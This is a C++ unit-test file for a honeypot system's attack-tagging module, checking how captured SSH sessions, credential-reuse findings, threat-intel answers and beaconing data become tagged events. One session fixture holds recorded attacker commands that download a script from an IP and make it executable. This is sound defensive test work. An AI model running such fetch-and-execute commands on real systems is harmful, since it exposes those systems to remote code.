// What each published fact becomes for the tagger (tag_sources.h). Pinned here: an ended session
// gives one command event per command, numbered by its position among all the elements so a
// source id (and the tag uuid derived from it) is stable, plus the whole session for the
// behavioural rules; a reuse finding gives one credential event per attacker; an intel row is
// read from each provider's stored answer, and a provider whose last query failed adds nothing;
// a beaconing attacker's stored jitter percentage reaches the rule as the fraction it compares.
#include "ttp/tag_sources.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "core/json_text.h"
#include "core/time.h"
#include "ttp/event_tagger.h"
#include "ttp/rule_loader.h"

namespace decnet::ttp {
namespace {

const std::filesystem::path kPack = std::filesystem::path(DECNET_SOURCE_DIR) / "rules" / "ttp";
const std::string kAttacker = "0123456789abcdef0123456789abcdef";
const std::string kSession = "fedcba9876543210fedcba9876543210";

std::int64_t source_micros(std::string_view rfc3339) {
  return core::parse_rfc3339(rfc3339).value().micros_utc;
}

nlohmann::json session_ended(nlohmann::json commands) {
  return {{"attacker_uuid", kAttacker},
          {"session_uuid", kSession},
          {"decky_id", "decky-01"},
          {"service", "ssh"},
          {"outcome", "closed"},
          {"duration_s", 42},
          {"command_count", commands.size()},
          {"ended_at", "2026-05-02T06:30:00Z"},
          {"commands", std::move(commands)}};
}

TEST(TagSources, AnEndedSessionIsItsCommandsNumberedByPositionAndTheWholeSession) {
  const auto commands = nlohmann::json::array({
      {{"command_text", "uname -a"}, {"ts", "2026-05-02T06:22:48Z"}},
      "not an object",
      {{"command_text", "wget http://198.51.100.7/x.sh"}, {"ts", "2026-05-02T06:22:50Z"}},
      42,
      {{"ts", "2026-05-02T06:22:51Z"}},  // no text: no event, but it has a position
      {{"command_text", "chmod +x x.sh"}},
  });
  const auto events = session_events(session_ended(commands));

  std::vector<std::pair<std::string, std::string>> expected;  // source id, text
  std::string joined;
  for (std::size_t i = 0; i < commands.size(); ++i) {
    const auto& c = commands[i];
    if (!c.is_object() || !c.contains("command_text")) continue;
    const auto text = c["command_text"].get<std::string>();
    expected.emplace_back(kSession + "#" + std::to_string(i), text);
    joined += (joined.empty() ? "" : "\n") + text;
  }
  ASSERT_EQ(events.size(), expected.size() + 1);
  for (std::size_t i = 0; i < expected.size(); ++i) {
    SCOPED_TRACE(expected[i].first);
    const auto& e = events[i];
    EXPECT_EQ(e.source_kind, "command");
    EXPECT_EQ(e.source_id, expected[i].first);
    EXPECT_EQ(e.payload["command_text"], expected[i].second);
    EXPECT_EQ(e.payload["service"], "ssh");
    EXPECT_EQ(e.attacker_uuid, kAttacker);
    EXPECT_EQ(e.session_id, kSession);
    EXPECT_EQ(e.decky_id, "decky-01");
  }
  EXPECT_EQ(events[0].at, source_micros(commands[0]["ts"].get<std::string>()));
  EXPECT_EQ(events[2].at, 0);  // no time: when tagged

  const auto& s = events.back();
  EXPECT_EQ(s.source_kind, "session");
  EXPECT_EQ(s.source_id, kSession);
  EXPECT_EQ(s.payload["command_text"], joined);
  EXPECT_EQ(s.payload["duration_s"], 42);
  EXPECT_EQ(s.payload["command_count"], commands.size());
  EXPECT_EQ(s.at, source_micros("2026-05-02T06:30:00Z"));
}

TEST(TagSources, ASessionWithoutAttackerOrSessionIdGivesNothing) {
  auto p = session_ended(nlohmann::json::array({{{"command_text", "id"}}}));
  p.erase("attacker_uuid");
  EXPECT_TRUE(session_events(p).empty());
  p = session_ended(nlohmann::json::array({{{"command_text", "id"}}}));
  p["session_uuid"] = "";
  EXPECT_TRUE(session_events(p).empty());
}

TEST(TagSources, AReuseFindingIsOneCredentialEventPerAttacker) {
  const std::int64_t targets = 4;
  const nlohmann::json finding = {{"id", "9f86d081884c7d65"},
                                  {"attacker_uuids", nlohmann::json::array({"a1", "", 7, "a2"})},
                                  {"target_count", targets},
                                  {"secret_kind", "plaintext"}};
  const auto events = credential_events(finding);
  ASSERT_EQ(events.size(), 2u);  // the empty and non-text entries are nobody
  const std::vector<std::string> attackers = {"a1", "a2"};
  for (std::size_t i = 0; i < events.size(); ++i) {
    const auto& e = events[i];
    EXPECT_EQ(e.source_kind, "credential");
    EXPECT_EQ(e.attacker_uuid, attackers[i]);
    EXPECT_EQ(e.source_id, "reuse:" + finding["id"].get<std::string>() + ":" + attackers[i]);
    EXPECT_EQ(e.payload["reuse_count"], targets - 1);
    EXPECT_EQ(e.payload["target_count"], targets);
    EXPECT_EQ(e.payload["credential_hash"], finding["id"]);
    EXPECT_EQ(e.payload["secret_kind"], "plaintext");
  }
  auto no_count = finding;
  no_count.erase("target_count");
  EXPECT_TRUE(credential_events(no_count).empty());
}

store::ProviderIntel provider(std::optional<std::string> verdict, const nlohmann::json& raw,
                              std::optional<std::string> error = std::nullopt) {
  store::ProviderIntel p;
  p.verdict = std::move(verdict);
  p.raw = core::json_text(raw);
  p.error = std::move(error);
  return p;
}

store::AttackerIntel intel_row() {
  store::AttackerIntel intel;
  intel.attacker_uuid = kAttacker;
  intel.attacker_ip = "198.51.100.7";
  intel.aggregate_verdict = "malicious";
  intel.cached_at = 1'777'000'000'000'000;
  return intel;
}

// The raw answers in the shapes the enricher stores (src/enrich/intel_providers.cc).
const nlohmann::json kAbuse = {{"ipAddress", "198.51.100.7"},
                               {"abuseConfidenceScore", 87},
                               {"categories", nlohmann::json::array({18, 22})}};
const nlohmann::json kGrey = {{"ip", "198.51.100.7"},
                              {"classification", "malicious"},
                              {"tags", nlohmann::json::array({"SSH Bruteforcer", "Mirai"})},
                              {"name", "unknown"}};
const nlohmann::json kFox = {{"listed", true},
                             {"threat_types", nlohmann::json::array({"botnet_cc"})},
                             {"ioc_types", nlohmann::json::array({"ip:port"})},
                             {"malware_families", nlohmann::json::array({"win.cobalt_strike"})},
                             {"data", nlohmann::json::array()}};

TEST(TagSources, AnIntelRowIsReadFromEachProvidersAnswer) {
  auto intel = intel_row();
  intel.providers["abuseipdb"] = provider("malicious", kAbuse);
  intel.providers["greynoise"] = provider("malicious", kGrey);
  intel.providers["feodo"] = provider("malicious", {{"listed", true}});
  intel.providers["threatfox"] = provider("malicious", kFox);
  const auto e = intel_event(intel);
  EXPECT_EQ(e.source_kind, "intel");
  EXPECT_EQ(e.source_id, "intel:" + kAttacker + ":" + std::to_string(intel.cached_at));
  EXPECT_EQ(e.attacker_uuid, kAttacker);
  EXPECT_EQ(e.at, intel.cached_at);
  const auto& p = e.payload;
  EXPECT_EQ(p["attacker_ip"], intel.attacker_ip);
  EXPECT_EQ(p["aggregate_verdict"], intel.aggregate_verdict);
  EXPECT_EQ(p["abuseipdb_score"], kAbuse["abuseConfidenceScore"]);
  EXPECT_EQ(p["abuseipdb_categories"], kAbuse["categories"]);
  EXPECT_EQ(p["greynoise_classification"], kGrey["classification"]);
  EXPECT_EQ(p["greynoise_tags"], kGrey["tags"]);
  EXPECT_EQ(p["feodo_listed"], true);
  EXPECT_EQ(p["threatfox_threat_types"], kFox["threat_types"]);
  EXPECT_EQ(p["threatfox_ioc_types"], kFox["ioc_types"]);
  EXPECT_EQ(p["threatfox_malware_families"], kFox["malware_families"]);
}

TEST(TagSources, FeodoListsOnlyOnAMaliciousVerdict) {
  auto intel = intel_row();
  intel.providers["feodo"] = provider(std::nullopt, {{"listed", false}});
  EXPECT_FALSE(intel_event(intel).payload.contains("feodo_listed"));
  intel.providers["feodo"] = provider("malicious", {{"listed", true}});
  EXPECT_EQ(intel_event(intel).payload["feodo_listed"], true);
}

TEST(TagSources, AProviderWhoseQueryFailedAddsNothing) {
  auto intel = intel_row();
  intel.providers["abuseipdb"] = provider("malicious", kAbuse, "HTTP 429");
  intel.providers["greynoise"] = provider("malicious", kGrey, "HTTP 500");
  intel.providers["threatfox"] = provider("malicious", kFox, "query_status=illegal");
  const auto p = intel_event(intel).payload;
  for (const auto* key : {"abuseipdb_score", "abuseipdb_categories", "greynoise_classification",
                          "greynoise_tags", "greynoise_name", "threatfox_threat_types",
                          "threatfox_ioc_types", "threatfox_malware_families"}) {
    EXPECT_FALSE(p.contains(key)) << key;
  }
  // The same answers without the error are read: the error is what silenced them.
  for (auto& [name, answer] : intel.providers) answer.error.reset();
  EXPECT_TRUE(intel_event(intel).payload.contains("abuseipdb_score"));
}

// The store keeps Feodo's last verdict when a refresh fails; a failed answer lists nobody.
TEST(TagSources, AFeodoEntryWhoseQueryFailedAddsNothing) {
  auto intel = intel_row();
  intel.providers["feodo"] = provider("malicious", {{"listed", true}}, "feed: not loaded");
  EXPECT_FALSE(intel_event(intel).payload.contains("feodo_listed"));
}

// The enricher stores a Feodo hit as {"listed": true, "entry": {...}}, the family in
// entry.malware.
TEST(TagSources, AFeodoHitNamesItsMalwareFamily) {
  auto intel = intel_row();
  intel.providers["feodo"] = provider(
      "malicious",
      {{"listed", true}, {"entry", {{"ip_address", "198.51.100.7"}, {"malware", "Emotet"}}}});
  EXPECT_EQ(intel_event(intel).payload["feodo_malware_family"], "Emotet");
}

TEST(TagSources, BeaconingJitterReachesTheRuleAsAFraction) {
  const auto rules = load_rule_directory(kPack);
  const auto r0031 =
      std::find_if(rules.begin(), rules.end(), [](const Rule& r) { return r.rule_id == "R0031"; });
  ASSERT_NE(r0031, rules.end());
  const double max_jitter = r0031->match["max_jitter_pct"].get<double>();  // a fraction
  const double min_interval = r0031->match["min_interval_s"].get<double>();

  store::AttackerBehaviour b;
  b.beacon_interval_s = min_interval * 6;
  b.beacon_jitter_pct = max_jitter * 100 - 3;  // stored as a percentage, under the threshold
  const auto e = beaconing_event(kAttacker, b);
  ASSERT_TRUE(e);
  EXPECT_EQ(e->source_kind, "session");
  EXPECT_EQ(e->source_id, kAttacker + "#beaconing");
  EXPECT_EQ(e->attacker_uuid, kAttacker);
  EXPECT_EQ(e->payload["beacon_interval_s"], *b.beacon_interval_s);
  EXPECT_DOUBLE_EQ(e->payload["beacon_jitter_pct"].get<double>(), *b.beacon_jitter_pct / 100);

  const EventTagger tagger(rules);
  const auto fired = tagger.firing_rules(*e);
  EXPECT_TRUE(
      std::any_of(fired.begin(), fired.end(), [](const Rule* r) { return r->rule_id == "R0031"; }));

  b.beacon_jitter_pct.reset();
  EXPECT_FALSE(beaconing_event(kAttacker, b));
}

}  // namespace
}  // namespace decnet::ttp
